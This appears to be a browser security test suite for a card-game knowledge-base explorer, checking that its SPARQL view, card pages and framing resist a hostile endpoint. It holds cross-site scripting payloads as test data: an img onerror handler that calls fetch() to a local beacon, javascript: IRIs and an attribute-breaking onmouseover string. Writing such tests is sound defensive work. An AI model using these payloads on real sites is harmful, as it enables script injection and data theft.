"""The explorer page against a hostile world, in headless Chromium: links that name another SPARQL
endpoint (in the query string or the fragment, opened directly or framed by a page of that
endpoint's server), answers whose every field holds markup and script, and imported cards whose
name, text and rulings do. Each test asserts that no script of theirs ran (``window.__pwned`` stays
unset) and that the hostile server, one of the test's own on 127.0.0.1, heard nothing from the page;
and the page, under its Content-Security-Policy, meets no violation while it is used."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from serve_browser import chromium, violations, wait
from serve_helpers import running_server

# --- a hostile SPARQL endpoint ---------------------------------------------------------------------


@dataclass
class Hostile:
    """A server on 127.0.0.1 that answers any SPARQL query with :func:`payload` (CORS open to all),
    serves ``pages`` by path, and records every request it gets, whatever its method."""

    base: str = ""
    pages: dict[str, str] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)

    @property
    def sparql(self) -> str:
        return self.base + "/sparql"

    @property
    def script(self) -> str:
        """What each payload tries to run: set a global, and tell this server."""
        return f"window.__pwned=1;fetch('{self.base}/beacon')"


def markup(hostile: Hostile) -> str:
    return f'<img src=x onerror="{hostile.script}">'


def payload(hostile: Hostile) -> dict:
    """SPARQL JSON results with the script in every field: values, language tags, datatypes, IRIs,
    blank nodes and a variable's name."""
    evil = markup(hostile)
    return {
        "head": {"vars": ["v", evil]},
        "results": {
            "bindings": [
                {"v": {"type": "literal", "value": "hello", "xml:lang": evil}},
                {"v": {"type": "literal", "value": evil, "datatype": evil}},
                {"v": {"type": "literal", "value": "typed", "datatype": f"javascript:{hostile.script}"}},
                {"v": {"type": "uri", "value": evil}},
                {"v": {"type": "uri", "value": f"javascript:{hostile.script}"}},
                {"v": {"type": "uri", "value": f"http://x/' onmouseover='{hostile.script}' '"}},
                {"v": {"type": "bnode", "value": evil}, evil: {"type": "literal", "value": evil}},
            ]
        },
    }


@contextlib.contextmanager
def hostile_server() -> Iterator[Hostile]:
    hostile = Hostile()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def _answer(self) -> None:
            hostile.requests.append(f"{self.command} {self.path}")
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(length)
            path = self.path.split("?")[0]
            if path in hostile.pages:
                body, kind = hostile.pages[path].encode(), "text/html; charset=utf-8"
            else:
                body, kind = json.dumps(payload(hostile)).encode(), "application/sparql-results+json"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        do_GET = do_POST = do_OPTIONS = do_HEAD = do_PUT = _answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    hostile.base = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield hostile
    finally:
        server.shutdown()
        server.server_close()


# --- fixtures and helpers --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(kb):
    with running_server() as running:
        yield running


@pytest.fixture(scope="module")
def driver(tmp_path_factory):
    with chromium(tmp_path_factory.mktemp("chromium-profile")) as chrome:
        yield chrome


@pytest.fixture(autouse=True)
def _fresh_console(driver):
    """Each test reads only its own console (the framing test's refusals are logged as violations)."""
    driver.get_log("browser")


@pytest.fixture
def hostile():
    with hostile_server() as running:
        yield running


def _script(driver, script: str, *args):
    return driver.execute_script(script, *args)


def _pwned(driver) -> bool:
    return bool(_script(driver, "return window.__pwned === 1"))


def _yasgui_ready(driver) -> None:
    wait(
        driver, lambda d: d.find_elements("css selector", "#yasgui .yasqe_queryButton"), "YASGUI did not load"
    )


def _to_sparql(driver) -> None:
    """Scroll to the SPARQL section, as a reader does, and wait for the editor."""
    _script(driver, "document.getElementById('sparql').scrollIntoView()")
    _yasgui_ready(driver)


def _run_query(driver) -> None:
    """Press the editor's run button and wait for the answer to be drawn."""
    _script(
        driver,
        "window.__answered = false;"
        "window.mtgkbExplorer.yasgui.once('queryResponse', () => { window.__answered = true; })",
    )
    driver.find_element("css selector", "#yasgui .yasqe_queryButton").click()
    wait(driver, lambda d: _script(d, "return window.__answered"), "the query got no answer")
    wait(driver, lambda d: d.find_elements("css selector", "#yasgui .yasr_results > *"), "no answer drawn")


def _idle(driver) -> None:
    """Let a beat pass in the page (a timer in the page, not here), so that what a payload would
    fetch or set has happened."""
    driver.set_script_timeout(10)
    driver.execute_async_script("setTimeout(arguments[arguments.length - 1], 1000)")


def _clean(driver, hostile: Hostile) -> None:
    _idle(driver)
    assert not _pwned(driver), "a script from the hostile answer ran in the explorer's page"
    assert hostile.requests == [], f"the page sent requests to the hostile server: {hostile.requests}"
    assert (
        _script(driver, "return document.querySelectorAll('#yasgui img, #details img, main img').length") == 0
    )


QUERY = "SELECT * WHERE { ?s ?p ?o } LIMIT 1"


def _links(server, hostile: Hostile) -> dict[str, str]:
    fields = urllib.parse.urlencode({"query": QUERY, "endpoint": hostile.sparql})
    return {"query string": f"{server.url}?{fields}", "fragment": f"{server.url}#{fields}"}


# --- links naming another endpoint -----------------------------------------------------------------


@pytest.mark.parametrize("form", ["query string", "fragment"])
def test_a_link_fills_the_editor_but_runs_nothing_and_never_names_the_endpoint(
    server, driver, hostile, form: str
) -> None:
    driver.get(_links(server, hostile)[form])
    _to_sparql(driver)
    _idle(driver)
    assert hostile.requests == [], "the page queried the link's endpoint by itself"
    tab = "window.mtgkbExplorer.yasgui.getTab()"
    assert _script(driver, f"return {tab}.getYasqe().getValue()") == QUERY, (
        "the link's query is not in the editor"
    )
    assert _script(driver, f"return {tab}.getEndpoint()") == server.sparql
    assert not _script(driver, f"return {tab}.getYasr().results"), (
        "the link's query ran without a press of run"
    )
    fields = driver.find_elements("css selector", "#yasgui .autocompleteWrapper input, #yasgui .controlbar")
    assert fields and not any(element.is_displayed() for element in fields), "the endpoint field is shown"
    # Pressing run asks this server, with the link's query.
    _run_query(driver)
    assert sorted(_script(driver, f"return {tab}.getYasr().results.getVariables()")) == ["o", "p", "s"]
    _clean(driver, hostile)
    assert violations(driver) == []


def test_stored_tabs_bring_no_endpoint_back(server, driver, hostile) -> None:
    """YASGUI keeps its tabs, with their endpoints, in localStorage unless told not to."""
    driver.get(server.url)
    tab = {"id": "t", "name": "Query", "yasqe": {"value": QUERY}, "yasr": {"settings": {}}}
    tab["requestConfig"] = {"endpoint": hostile.sparql}
    state = {"tabs": ["t"], "active": "t", "tabConfig": {"t": tab}, "endpointHistory": [hostile.sparql]}
    # Where YASGUI would keep it by default (its persistenceId for a root without an id), as it keeps it.
    _script(
        driver,
        "localStorage.setItem('yagui__config', JSON.stringify("
        "{namespace: 'triply', val: arguments[0], time: Date.now() / 1000, exp: 1e9}))",
        state,
    )
    driver.get(server.url + "#sparql")
    _yasgui_ready(driver)
    assert _script(driver, "return window.mtgkbExplorer.yasgui.getTab().getEndpoint()") == server.sparql
    _run_query(driver)
    _clean(driver, hostile)
    _script(driver, "localStorage.clear()")


@pytest.mark.parametrize("form", ["query string", "fragment"])
def test_the_page_refuses_to_be_framed(server, driver, hostile, form: str) -> None:
    link = _links(server, hostile)[form]
    if "#" not in link:
        link += "#sparql"  # the frame opens at the SPARQL section
    hostile.pages["/frame"] = (
        "<!doctype html><title>framing</title>"
        f'<iframe id="victim" src="{link}" width="1200" height="900"></iframe>'
    )
    driver.get(hostile.base + "/frame")
    frame = wait(driver, lambda d: d.find_element("id", "victim"), "no frame")
    _idle(driver)
    driver.switch_to.frame(frame)
    try:
        loaded = _script(driver, "return !!window.mtgkbExplorer || !!document.getElementById('yasgui')")
        pwned = _pwned(driver)
    finally:
        driver.switch_to.default_content()
    assert not loaded, "the explorer loaded in a frame of another origin"
    assert not pwned and not _pwned(driver)
    asked = [request for request in hostile.requests if request != "GET /favicon.ico"]
    assert asked == ["GET /frame"], f"requests the framed page made: {asked}"


# --- answers that hold markup ----------------------------------------------------------------------

#: Answers every /sparql request of the page's editor with the given SPARQL JSON, as a hostile
#: endpoint would: the answer then goes through YASGUI's own drawing, field by field.
_ANSWER_WITH = """
const body = arguments[0], endpoint = arguments[1], real = window.fetch;
const headers = {"Content-Type": "application/sparql-results+json"};
window.fetch = (input, options) => String(input && input.url || input).startsWith(endpoint)
  ? Promise.resolve(new Response(body, {status: 200, headers})) : real(input, options);
"""


@pytest.mark.parametrize("plugin", ["table", "response"])
def test_every_field_of_an_answer_is_shown_as_text(server, driver, hostile, plugin: str) -> None:
    driver.get(server.url + "#sparql")
    _yasgui_ready(driver)
    _script(driver, _ANSWER_WITH, json.dumps(payload(hostile)), server.sparql)
    _script(driver, "window.mtgkbExplorer.yasgui.getTab().getYasr().selectPlugin(arguments[0])", plugin)
    _run_query(driver)
    text = _script(driver, "return document.querySelector('#yasgui .yasr_results').textContent")
    if plugin == "table":
        assert text.count("<img src=x onerror=") >= 5, text  # the tag, the value, the IRI, the node, the name
        assert f"javascript:{hostile.script}" in text
        links = _script(
            driver,
            "return [...document.querySelectorAll('#yasgui .yasr_results a')]"
            ".map(a => a.getAttribute('href'))",
        )
        assert all(link.startswith(("http://", "https://")) for link in links), links
        handlers = _script(
            driver,
            "return [...document.querySelectorAll('#yasgui .yasr_results *')]"
            ".filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length",
        )
        assert handlers == 0
        # Hovering and clicking every cell's content runs nothing either.
        _script(
            driver,
            "document.querySelectorAll('#yasgui .yasr_results td *').forEach(e => {"
            " e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); })",
        )
        for link in driver.find_elements("css selector", "#yasgui .yasr_results a.iri"):
            _script(
                driver,
                "arguments[0].addEventListener('click', e => e.preventDefault()); arguments[0].click()",
                link,
            )
    else:
        assert "onerror" in text, text
    _clean(driver, hostile)
    assert violations(driver) == []


def test_markup_made_by_our_own_endpoint_is_shown_as_text(server, driver, hostile) -> None:
    """Values the real store makes from a query: a javascript: IRI, a datatype of that scheme, a
    literal of markup (language tags and variable names cannot hold markup in SPARQL)."""
    evil = markup(hostile)
    iri = f"<javascript:{hostile.script}>"
    values = f'({json.dumps(evil)} {iri} "x"^^{iri})'
    query = f"SELECT ?value ?iri ?typed WHERE {{ VALUES (?value ?iri ?typed) {{ {values} }} }}"
    driver.get(server.url + "?" + urllib.parse.urlencode({"query": query}))
    _to_sparql(driver)
    _run_query(driver)
    text = _script(driver, "return document.querySelector('#yasgui .yasr_results').textContent")
    assert evil in text and "javascript:window.__pwned=1" in text, text
    assert not driver.find_elements("css selector", "#yasgui .yasr_results a[href^='javascript']")
    _clean(driver, hostile)
    assert violations(driver) == []


# --- imported cards that hold markup ---------------------------------------------------------------


def crafted_atomic_cards(evil: str) -> dict:
    """An MTGJSON AtomicCards file of one card whose name, type line, text and ruling hold ``evil``."""
    name = f"Sly {evil} Ninja"
    return {
        "meta": {"date": "2026-01-01", "version": "5.2.2"},
        "data": {
            name: [
                {
                    "name": name,
                    "type": f"Creature — Ninja {evil}",
                    "types": ["Creature"],
                    "subtypes": ["Ninja"],
                    "manaCost": "{1}{U}",
                    "manaValue": 2,
                    "text": f"Ninjutsu {{U}} {evil}\nWhen this deals combat damage, draw {evil}.",
                    "power": "1",
                    "toughness": "2",
                    "colors": ["U"],
                    "colorIdentity": ["U"],
                    "legalities": {"commander": "Legal"},
                    "rulings": [{"date": "2024-05-01", "text": f"A ruling {evil} of markup."}],
                }
            ]
        },
    }


@pytest.fixture(scope="module")
def crafted(tmp_path_factory):
    """``mtgkb serve`` over the bundled knowledge base plus the crafted card, and its hostile server
    (whose address the card's script names)."""
    with hostile_server() as hostile:
        base = tmp_path_factory.mktemp("crafted-kb")
        env = {**os.environ, "MTGKB_CACHE_DIR": str(base / "cache"), "MTGKB_DATA_DIR": str(base / "data")}
        cards = base / "AtomicCards.json"
        cards.write_text(json.dumps(crafted_atomic_cards(markup(hostile))), encoding="utf-8")
        subprocess.run(
            [sys.executable, "-m", "mtgkb", "import", "mtgjson", str(cards)],
            env=env,
            check=True,
            capture_output=True,
            timeout=600,
        )
        with running_server(env=env) as running:
            yield running, hostile


def test_imported_names_texts_and_rulings_are_shown_as_text_everywhere(crafted, driver) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By

    server, hostile = crafted
    evil = markup(hostile)
    name = f"Sly {evil} Ninja"
    driver.get(server.url)
    wait(
        driver, lambda d: _script(d, "return !!(window.mtgkbExplorer && window.mtgkbExplorer.cy)"), "no graph"
    )
    # The suggestions, then the card pane and the graph.
    driver.find_element(By.ID, "search").send_keys("Sly <img")
    suggestion = wait(
        driver,
        lambda d: next(
            (li for li in d.find_elements(By.CSS_SELECTOR, "#suggestions li") if evil in li.text), False
        ),
        "no suggestion for the crafted card",
    )
    ActionChains(driver).click(suggestion).perform()
    wait(driver, lambda d: "Rulings" in d.find_element(By.ID, "details").text, "no card details")
    details = driver.find_element(By.ID, "details").text
    assert details.count(evil) >= 4, details  # the name, the type line, the text twice, the ruling
    labels = _script(driver, "return window.mtgkbExplorer.cy.nodes().map(n => n.data('label'))")
    assert any(evil in label for label in labels), labels
    # A ruling's own node, then a node with the card's name in its links.
    ruling = _script(
        driver,
        "return window.mtgkbExplorer.cy.nodes().filter(n => n.id().includes('/ruling/')).map(n => n.id())[0]",
    )
    assert ruling
    _script(
        driver,
        "window.mtgkbExplorer.details(window.mtgkbExplorer.cy.getElementById(arguments[0]).data())",
        ruling,
    )
    wait(driver, lambda d: evil in d.find_element(By.ID, "details").text, "no ruling details")
    # A verdict about the card, then one about a card of that name that is not there (its error).
    card = driver.find_element(By.ID, "verdict-card")
    for asked in (name, evil):
        card.clear()
        card.send_keys(asked)
        _script(driver, "window.mtgkbExplorer.lastVerdict = null; window.__asked = false")
        driver.find_element(By.ID, "verdict-ask").click()
        wait(
            driver,
            lambda d: (
                "Asking" not in d.find_element(By.ID, "verdict-checks").text
                and d.find_element(By.ID, "verdict-checks").text
            ),
            "no verdict",
        )
        assert evil in driver.find_element(By.ID, "verdict-checks").text
    # The graph's message for a name it does not know, which it repeats.
    driver.get(server.url + "?" + urllib.parse.urlencode({"node": f"Nothing {evil}"}))
    wait(
        driver,
        lambda d: d.find_element(By.ID, "graph-stats").text.count("<img") >= 1,
        "no message for the name",
    )
    _clean(driver, hostile)
    assert _script(driver, "return document.querySelectorAll('img').length") == 0
    assert violations(driver) == []


# --- the page works under its policy ---------------------------------------------------------------


def test_search_graph_verdict_and_sparql_meet_no_policy_violation(server, driver) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By

    driver.get(server.url)
    wait(
        driver, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#verdict-step option")) > 1, "no steps listed"
    )
    driver.find_element(By.ID, "search").send_keys("Ninja of the De")
    suggestion = wait(
        driver,
        lambda d: next(
            (li for li in d.find_elements(By.CSS_SELECTOR, "#suggestions li") if "Deep Hours" in li.text),
            False,
        ),
        "no suggestion",
    )
    ActionChains(driver).click(suggestion).perform()
    wait(driver, lambda d: "Rulings" in d.find_element(By.ID, "details").text, "no card details")
    driver.find_element(By.ID, "verdict-ask").click()
    wait(driver, lambda d: "YES" in d.find_element(By.ID, "verdict-checks").text, "no verdict")
    wait(driver, lambda d: _script(d, "return !!window.mtgkbExplorer.verdictGraph"), "no verdict graph")
    _to_sparql(driver)
    _run_query(driver)
    text = _script(driver, "return document.querySelector('#yasgui .yasr_results').textContent")
    assert "ninja-of-the-deep-hours" in text, text
    found = violations(driver)
    assert found == [], found


# --- the vendored renderer is the patched one ------------------------------------------------------


def test_the_vendored_yasgui_is_patched_as_the_vendoring_script_patches_it() -> None:
    import importlib.util

    script = Path(__file__).resolve().parents[1] / "scripts" / "vendor_js.py"
    spec = importlib.util.spec_from_file_location("vendor_js", script)
    assert spec and spec.loader
    vendor_js = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(vendor_js)
    for name, patches in vendor_js.PATCHES.items():
        text = (vendor_js.VENDOR / name).read_text(encoding="utf-8")
        for old, new in patches:
            assert text.count(new) == 1 and old not in text, f"{name} is not patched: {old[:60]}"
    assert "patches of scripts/vendor_js.py" in (vendor_js.VENDOR / "VENDORED.txt").read_text()
